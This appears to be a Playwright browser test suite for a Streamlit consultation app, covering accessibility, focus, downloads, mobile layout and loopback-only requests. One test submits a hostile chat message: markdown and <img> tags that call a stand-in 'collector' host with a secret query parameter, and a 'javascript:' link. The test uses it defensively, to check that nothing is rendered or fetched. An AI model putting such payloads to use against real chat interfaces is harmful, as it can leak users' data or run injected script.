"""A real `streamlit run` driven by Debian Chromium: a whole consultation, the ADR download, a refresh;
accessibility (axe-core, focus, live announcements), an unknown link, and a 390 px wide phone."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from consultant.assets import ui_app
from consultant.offline import streamlit_flags
from tests.local_servers import free_port, stop, wait_for_http

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[1]
CHROMIUM = Path("/usr/bin/chromium")
REPORTS = ROOT / "evals" / "reports"
SCREENSHOT = REPORTS / "ui-screenshot.png"
AXE = ROOT / ".cache" / "axe" / "node_modules" / "axe-core" / "axe.min.js"  # installed by scripts/ensure-axe.sh
BLOCKING_IMPACTS = ("serious", "critical")
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-dev-shm-usage"]
OPENING = ("We want a support assistant that answers questions from our help center docs, for customers on "
           "our $49/month plan")
CONSULTATION = [
    ("Policies change every week", "RAG · "),
    ("About 20,000 queries a day, and answers within 2 seconds are fine", "600,000 queries a month"),
]


STALE_COPY_RETRIES = 5


def click_the_one(locator: Any) -> None:
    """Click a button Streamlit may briefly render twice during a rerun (the old and the new copy): wait until one
    is left, and try again if a second copy appears between the wait and the click."""
    from playwright.sync_api import Error, expect

    for _ in range(STALE_COPY_RETRIES):
        expect(locator).to_have_count(1)
        try:
            locator.click()
            return
        except Error as error:
            if "strict mode violation" not in str(error):
                raise
    raise AssertionError(f"{locator} kept resolving to more than one element")


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """`streamlit run consultant/ui/app.py` on a free loopback port, with its own data dir; stopped afterwards.

    One server for the module (each test works in its own consultation): the first start builds the knowledge base.
    """
    tmp_path = tmp_path_factory.mktemp("streamlit")
    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "CONSULTANT_"))}
    env["CONSULTANT_DATA_DIR"] = str(tmp_path / "data")
    env["PYTHONPATH"] = os.pathsep.join([str(ROOT), env.get("PYTHONPATH", "")]).rstrip(os.pathsep)  # this checkout's package
    log = (tmp_path / "streamlit.log").open("w")
    # cwd is the temp dir so a developer's .env (an LLM key) cannot switch the test onto the LLM path.
    proc = subprocess.Popen(  # the flags `consultant ui` passes: loopback only, no usage stats, no address lookup
        [sys.executable, "-m", "streamlit", "run", str(ui_app()), *streamlit_flags(port=port)],
        cwd=tmp_path, env=env, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        if not wait_for_http(f"{url}/_stcore/health", proc, 30, request_timeout_s=1):
            pytest.fail(f"streamlit did not start:\n{(tmp_path / 'streamlit.log').read_text()}")
        yield url
    finally:
        stop(proc, timeout_s=10)
        log.close()


@pytest.fixture
def browser() -> Iterator[Browser]:
    if not CHROMIUM.exists():
        pytest.skip("Debian chromium is not installed at /usr/bin/chromium (run `make browser`)")
    sync_api = pytest.importorskip("playwright.sync_api", reason="the playwright package is not installed")
    with sync_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
        try:
            yield browser
        finally:
            browser.close()


def open_page(browser: Browser, server: str, **context: Any) -> Page:
    """A page in a fresh context that fails its test on any request leaving the loopback server."""
    page = browser.new_context(**{"viewport": {"width": 1440, "height": 1000}, **context}).new_page()
    page.set_default_timeout(20_000)
    outside: list[str] = []
    page.on("request", lambda r: None if r.url.startswith((server, "data:", "blob:")) else outside.append(r.url))
    page.outside_requests = outside  # type: ignore[attr-defined]
    return page


@pytest.fixture
def page(browser: Browser, server: str) -> Iterator[Page]:
    page = open_page(browser, server, accept_downloads=True)
    yield page
    assert_loopback_only(page)


def assert_loopback_only(page: Page) -> None:
    outside = page.outside_requests  # type: ignore[attr-defined]
    assert not outside, f"the page requested non-loopback URLs: {outside[:5]}"


# --- steps shared by the tests ------------------------------------------------------------------------------
def first_screen(page: Page, url: str) -> None:
    from playwright.sync_api import expect

    page.goto(url)
    expect(page.get_by_test_id("stChatInputTextArea")).to_be_visible(timeout=60_000)  # the first start builds the KB
    expect(page.get_by_test_id("stChatMessage").first).to_contain_text("Tell me about the feature you're planning")
    settle(page)


def send(page: Page, text: str | None, expected: str, click: Callable[[], None] | None = None) -> None:
    """Type a message (or click a quick reply) and wait for the reply containing `expected`."""
    from playwright.sync_api import expect

    messages = page.get_by_test_id("stChatMessage")
    count = messages.count()
    if click is not None:
        click()
    else:
        box = page.get_by_test_id("stChatInputTextArea")
        box.fill(str(text))
        box.press("Enter")
    expect(messages).to_have_count(count + 2)
    expect(messages.last).to_contain_text(expected, timeout=60_000)  # the first turn of a server loads the models
    settle(page)


def finish_consultation(page: Page) -> None:
    """The opening, the need confirmed with a quick reply, then the answers up to the recommendation."""
    send(page, OPENING, "Is that right")
    send(page, None, "How often does the knowledge",
         click=lambda: page.get_by_role("button", name="Know more").click())
    for text, reply in CONSULTATION:
        send(page, text, reply)
    page.get_by_role("heading", name="RAG", exact=True).wait_for()


NEWEST_REPLY = """() => [...document.querySelectorAll('[data-testid="stChatMessage"]')]
    .filter(m => m.querySelector('[data-testid="stChatMessageAvatarAssistant"]')).at(-1)"""
CHAT_BOX_FOCUSED = "() => document.activeElement?.getAttribute('data-testid') === 'stChatInputTextArea'"


def newest_reply_live_region(page: Page) -> str | None:
    """The aria-live value of the region the newest assistant reply sits in (None when it is in none)."""
    return page.evaluate(f"() => ({NEWEST_REPLY})()?.closest('[aria-live]')?.getAttribute('aria-live') ?? null")


def expect_focus_on_chat_box(page: Page, when: str) -> None:
    try:
        page.wait_for_function(CHAT_BOX_FOCUSED, timeout=5_000)
    except Exception as exc:
        active = page.evaluate("() => document.activeElement?.outerHTML.slice(0, 200)")
        raise AssertionError(f"{when}: the chat box does not have the focus; it is on {active}") from exc


def settle(page: Page) -> None:
    """Wait until the script run is over and nothing on the page is stale (faded) any more."""
    page.wait_for_selector("[data-test-script-state='notRunning']", state="attached")
    page.wait_for_function("() => !document.querySelector('[data-stale=\"true\"]')")
    page.wait_for_timeout(300)  # charts and late layout


def show_everything(page: Page) -> dict[str, int]:
    """Grow the viewport to the app's own scroll heights (Streamlit scrolls inside its containers), so a
    screenshot shows the whole app and axe can judge every element (it cannot judge contrast out of view).
    Returns the size before, for `page.set_viewport_size`."""
    size = page.viewport_size or {"width": 1440, "height": 1000}
    height = page.evaluate("""() => Math.max(...['stAppScrollToBottomContainer', 'stSidebarContent'].map(
        id => document.querySelector(`[data-testid="${id}"]`)?.scrollHeight ?? 0))""")
    page.set_viewport_size({"width": size["width"], "height": min(int(height) + 40, 8000)})
    page.wait_for_timeout(1000)  # charts re-lay out at the new size
    return dict(size)


def full_height_screenshot(page: Page, path: Path) -> None:
    size = show_everything(page)
    path.parent.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(path), full_page=True)
    page.set_viewport_size(size)
    assert path.stat().st_size > 10_000


def axe_violations(page: Page) -> list[dict[str, Any]]:
    """axe-core's violations on the page as it stands: id, impact, help and the CSS targets of each node."""
    if not AXE.exists():
        pytest.skip(f"axe-core is not installed at {AXE.relative_to(ROOT)} (run `make browser`)")
    if not page.evaluate("() => typeof window.axe !== 'undefined'"):
        page.add_script_tag(content=AXE.read_text("utf-8"))
    return list(page.evaluate("""async () => {
        const result = await axe.run(document, {resultTypes: ['violations']});
        return result.violations.map(v => ({id: v.id, impact: v.impact, help: v.help,
            targets: v.nodes.map(n => n.target.join(' ') + '  ' + n.html.replace(/\\s+/g, ' ').slice(0, 100))}));
    }"""))


def assert_no_serious_violations(page: Page, where: str) -> None:
    """axe-core on the whole page (viewport grown to show everything): no serious or critical violation."""
    size = show_everything(page)
    try:
        violations = axe_violations(page)
    finally:
        page.set_viewport_size(size)
    for v in violations:
        print(f"axe [{where}] {v['impact']}: {v['id']} ({v['help']})")
        for target in v["targets"][:8]:
            print(f"    {target}")
    blocking = [v for v in violations if v["impact"] in BLOCKING_IMPACTS]
    assert not blocking, f"axe found serious/critical violations on {where}: " + "; ".join(
        f"{v['id']} ({v['impact']}) at {v['targets'][:6]}" for v in blocking)


def test_a_whole_consultation_in_a_real_browser(server: str, page: Page) -> None:
    from playwright.sync_api import expect

    page.set_default_timeout(20_000)
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.goto(server)
    box = page.get_by_test_id("stChatInputTextArea")
    expect(box).to_be_visible(timeout=60_000)  # the first start builds the knowledge base
    messages = page.get_by_test_id("stChatMessage")
    expect(messages.first).to_contain_text("Tell me about the feature you're planning")
    assert "thread=ui-" in page.url

    box.fill(OPENING)
    box.press("Enter")
    expect(messages).to_have_count(3)
    expect(messages.last).to_contain_text("Is that right")  # the need read from the use case is confirmed
    page.get_by_role("button", name="Know more").click()  # a quick reply
    expect(messages).to_have_count(5)
    expect(messages.last).to_contain_text("How often does the knowledge")
    for text, reply in CONSULTATION:
        count = messages.count()
        box.fill(text)
        box.press("Enter")
        expect(messages).to_have_count(count + 2)
        expect(messages.last).to_contain_text(reply)
    expect(messages.nth(1)).to_contain_text("$49/month")  # a budget stays text, not LaTeX
    assert page.locator(".katex").count() == 0
    assert page.get_by_test_id("stException").count() == 0  # no traceback anywhere
    card = page.get_by_role("heading", name="RAG", exact=True)  # the brief's headline, in words
    expect(card).to_be_visible()
    assert page.get_by_text("rag_prototype").count() == 0 and page.get_by_text("fine_tuning").count() == 0

    # A follow-up question after the recommendation gets a short answer, not the whole brief again.
    count = messages.count()
    box.fill("What would fine-tuning cost us per year?")
    box.press("Enter")
    expect(messages).to_have_count(count + 2)
    expect(messages.last).to_contain_text("Over 12 months")
    follow_up = messages.last.inner_text()
    assert "$" in follow_up and "Why" not in follow_up.splitlines()[0] and len(follow_up) < 1500, follow_up
    # A side question is answered by its definition.
    count = messages.count()
    box.fill("Sorry, what is a token?")
    box.press("Enter")
    expect(messages).to_have_count(count + 2)
    expect(messages.last).to_contain_text("A token is")

    # A what-if sits beside the answers, with a way back; the exported scenario is still what the user said.
    field = page.get_by_role("spinbutton", name="Queries a month")
    field.fill("60000000")
    field.press("Enter")
    expect(page.get_by_text("What-if scenario", exact=True)).to_be_visible()
    scenario_button = page.get_by_role("button", name="Eval scenario (YAML)")
    with page.expect_download() as download:
        click_the_one(scenario_button)
    exported = yaml.safe_load(Path(download.value.path()).read_text("utf-8"))
    assert exported["expect"]["profile"]["monthly_queries"] == 600_000 and exported["opening"] == OPENING
    page.get_by_role("button", name="Back to my answers").first.click()
    expect(page.get_by_text("What-if scenario", exact=True)).to_have_count(0)

    # after a rerun Streamlit can show the old and the new copy of a button for a moment: wait for the one
    adr_button = page.get_by_role("button", name="ADR (Markdown)", exact=True)
    with page.expect_download() as download:
        click_the_one(adr_button)
    adr = Path(download.value.path()).read_text("utf-8")
    assert download.value.suggested_filename.startswith("adr-") and adr.splitlines()[0].endswith(": RAG")
    assert "## Options considered" in adr and "## Decision" in adr and "weekly" in adr
    sources = adr.split("## Sources", 1)[1].strip().splitlines() if "## Sources" in adr else []
    assert sources and sources[0].startswith("1. ") and ".md" not in sources[0]  # cited by title, not file name

    # Markup in a message never loads anything: no remote image, no script link, no raw HTML.
    count = messages.count()
    box.fill("our logo ![logo](https://collector.invalid/l.png?q=secret) see [docs](javascript:alert(1)) "
             "<img src=https://collector.invalid/b.png>")
    box.press("Enter")
    expect(messages).to_have_count(count + 2)
    expect(messages.nth(count)).to_contain_text("![logo](https://collector.invalid/l.png?q=secret)")
    assert page.locator("img[src*='collector']").count() == 0
    assert page.locator("a[href^='javascript']").count() == 0
    outside = [u for u in requested if not u.startswith((server, "data:", "blob:"))]
    assert not outside, f"the page requested non-loopback URLs: {outside[:5]}"

    url = page.url
    page.reload()  # a refresh is a new session: the chat comes back from the checkpointer
    expect(messages).to_have_count(1 + 2 * (len(CONSULTATION) + 5))
    expect(messages.nth(2 * len(CONSULTATION) + 4)).to_contain_text("600,000 queries a month")
    assert page.url == url

    page.get_by_role("heading", name="RAG", exact=True).wait_for()
    # Streamlit scrolls inside its own container: grow the viewport to it so the screenshot shows the whole app.
    height = page.get_by_test_id("stAppScrollToBottomContainer").evaluate("e => e.scrollHeight")
    page.set_viewport_size({"width": 1440, "height": min(int(height) + 40, 8000)})
    page.wait_for_timeout(1000)  # charts re-lay out at the new size
    SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOT), full_page=True)
    assert SCREENSHOT.stat().st_size > 10_000


def test_axe_finds_nothing_serious_on_the_first_screen_and_a_finished_consultation(server: str, page: Page) -> None:
    first_screen(page, server)
    REPORTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(REPORTS / "first-screen.png"))
    assert_no_serious_violations(page, "the first screen")

    finish_consultation(page)
    for table in page.get_by_text("The same numbers as a table").all():  # the charts' text alternatives, opened
        table.click()
    assert_no_serious_violations(page, "a finished consultation with its recommendation")
    # Emphasis is markup (<strong>), never literal asterisks in what a screen reader reads (labels included).
    assert "**" not in page.locator("body").aria_snapshot()
    assert page.locator("[aria-label*='**']").count() == 0
    # Each chart carries a text alternative: a description, and the same numbers as a table.
    charts = page.get_by_test_id("stVegaLiteChart")
    expect_count = charts.count()
    assert expect_count == 2
    labels = [charts.nth(i).get_attribute("aria-label") or "" for i in range(expect_count)]
    assert labels[0].startswith("Bar chart") and "Data volatility points to RAG" in labels[0], labels
    assert labels[1].startswith("Line chart") and "RAG $" in labels[1], labels
    tables = page.get_by_test_id("stTable")
    assert tables.count() == 2
    assert "Data volatility" in tables.nth(0).inner_text() and "$" in tables.nth(1).inner_text()
    full_height_screenshot(page, REPORTS / "finished-brief.png")


def test_replies_are_announced_and_the_chat_box_keeps_the_focus(server: str, page: Page) -> None:
    first_screen(page, server)
    expect_focus_on_chat_box(page, "after the page loaded")

    send(page, OPENING, "Is that right")
    assert newest_reply_live_region(page) == "polite"
    log = page.locator("[aria-live='polite']").filter(has=page.get_by_test_id("stChatMessage")).first
    assert log.get_attribute("role") == "log" and log.get_attribute("aria-busy") == "false"
    expect_focus_on_chat_box(page, "after a typed message was answered")

    # A quick reply is a button that disappears with the answer: the focus comes back to the chat box.
    send(page, None, "How often does the knowledge",
         click=lambda: page.get_by_role("button", name="Know more").click())
    assert newest_reply_live_region(page) == "polite"
    expect_focus_on_chat_box(page, "after a quick reply was answered")

    # A what-if edit in the profile is not a reply: the focus stays where the person is working.
    field = page.get_by_role("spinbutton", name="Queries a month")
    field.fill("3000000")
    field.press("Enter")
    page.wait_for_timeout(500)
    settle(page)
    assert not page.evaluate(CHAT_BOX_FOCUSED)
    assert page.evaluate("() => document.activeElement.getAttribute('aria-label')").startswith("Queries a month")

    send(page, "Policies change every week", "RAG · ")
    assert newest_reply_live_region(page) == "polite"
    expect_focus_on_chat_box(page, "after the recommendation")


def test_a_link_to_an_unknown_consultation_says_so_and_offers_a_new_one(server: str, page: Page) -> None:
    from playwright.sync_api import expect

    page.goto(f"{server}/?thread=ui-0123456789ab")  # well formed, but no consultation was ever stored under it
    expect(page.get_by_text("No consultation with that link was found")).to_be_visible(timeout=60_000)
    settle(page)
    assert page.get_by_test_id("stChatInputTextArea").count() == 0  # no empty consultation was opened
    assert page.get_by_test_id("stChatMessage").count() == 0
    assert "thread=ui-0123456789ab" in page.url  # the link stays as given, so it can be checked or corrected
    assert_no_serious_violations(page, "the unknown-link page")

    page.get_by_role("button", name="Start a new consultation").click()
    expect(page.get_by_test_id("stChatMessage").first).to_contain_text("Tell me about the feature you're planning")
    expect(page.get_by_test_id("stChatInputTextArea")).to_be_visible()
    assert "thread=ui-" in page.url and "ui-0123456789ab" not in page.url
    settle(page)
    assert page.get_by_text("No consultation with that link was found").count() == 0

    page.goto(f"{server}/?thread={'x' * 500}")  # a malformed id: as before, a new consultation and a warning
    expect(page.get_by_text("That consultation link isn't valid")).to_be_visible(timeout=30_000)
    expect(page.get_by_test_id("stChatInputTextArea")).to_be_visible()
    assert "thread=ui-" in page.url


def test_at_390_px_the_recommendation_is_one_tap_from_the_top(server: str, browser: Browser) -> None:
    from playwright.sync_api import expect

    page = open_page(browser, server, viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True,
                     device_scale_factor=2)
    first_screen(page, server)
    finish_consultation(page)
    heading = page.get_by_role("heading", name="Recommendation", exact=True)
    page.get_by_test_id("stAppScrollToBottomContainer").evaluate("e => e.scrollTo(0, 0)")  # back to the top
    jump = page.get_by_role("link", name="Jump to the recommendation")
    expect(jump).to_be_in_viewport()
    expect(heading).not_to_be_in_viewport()  # the columns stack: the card is far below the chat

    jump.tap()
    expect(heading).to_be_in_viewport()
    expect(page.get_by_role("heading", name="RAG", exact=True)).to_be_in_viewport()
    page.wait_for_timeout(500)
    page.screenshot(path=str(REPORTS / "mobile-390.png"))
    assert_loopback_only(page)


def test_consultations_are_listed_only_in_the_browser_that_started_them(server: str, browser: Browser) -> None:
    from playwright.sync_api import expect

    mine = open_page(browser, server)
    first_screen(mine, server)
    send(mine, OPENING, "Is that right")
    link = mine.url
    mine.get_by_role("button", name="New consultation").click()
    expect(mine.get_by_text("Past consultations (1)")).to_be_visible()
    expect(mine.get_by_test_id("stChatMessage")).to_have_count(1)  # the new consultation's greeting alone, so
    settle(mine)  # `send` counts this page's messages and not the old ones still fading out
    send(mine, "We need a classifier for support tickets", "")
    mine.reload()  # a new Streamlit session: the browser's owner cookie still lists its other consultation
    expect(mine.get_by_test_id("stChatMessage").nth(1)).to_contain_text("classifier", timeout=30_000)
    expect(mine.get_by_text("Past consultations (1)")).to_be_visible()
    cookies = {c["name"]: c for c in mine.context.cookies()}
    assert cookies["consultant_owner"]["sameSite"] == "Strict" and len(cookies["consultant_owner"]["value"]) >= 32

    other = open_page(browser, server)  # another browser (a fresh context: no cookie)
    first_screen(other, server)
    settle(other)
    assert other.get_by_text("Past consultations").count() == 0
    other.goto(link)  # the link still opens it: the unguessable id is the key
    expect(other.get_by_test_id("stChatMessage").nth(1)).to_contain_text("support assistant")
    settle(other)
    assert other.get_by_text("Past consultations").count() == 0
    assert_loopback_only(mine)
    assert_loopback_only(other)
